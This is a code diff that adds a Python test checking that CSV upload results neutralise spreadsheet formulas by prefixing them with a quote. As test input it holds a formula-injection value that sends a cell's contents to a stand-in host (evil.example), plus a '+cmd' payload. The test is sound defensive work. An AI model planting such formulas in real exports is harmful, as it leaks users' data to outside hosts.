@@ -81,6 +81,23 @@ async def test_csv_in_results_out(cluster: Cluster) -> None:
     await check(cluster, await results(cluster, job["id"]), 1_000)
 
 
+async def test_results_never_hand_a_spreadsheet_a_formula(cluster: Cluster) -> None:
+    """A person id uploaded as a formula fails (no such id), and comes back in the
+    results as text: a spreadsheet opening them runs nothing."""
+    await cluster.open_budget("acme", "b1", 1_000)
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    text = f'person_id,points\n"{formula.replace(chr(34), chr(34) * 2)}",5\n+cmd,3\nann,1\n'
+    status, job = await upload(cluster, text, budget_id="b1")
+    assert status == 202
+    await wait_done(cluster, job["id"])
+    rows = await results(cluster, job["id"])
+    assert [(r["person_id"], r["status"]) for r in rows] == [
+        ("'" + formula, "failed"),
+        ("'+cmd", "failed"),
+        ("ann", "ok"),
+    ]
+
+
 async def test_bad_uploads_are_refused(cluster: Cluster) -> None:
     for text, params in (
         ("name,points\nann,1\n", {"budget_id": "b1"}),
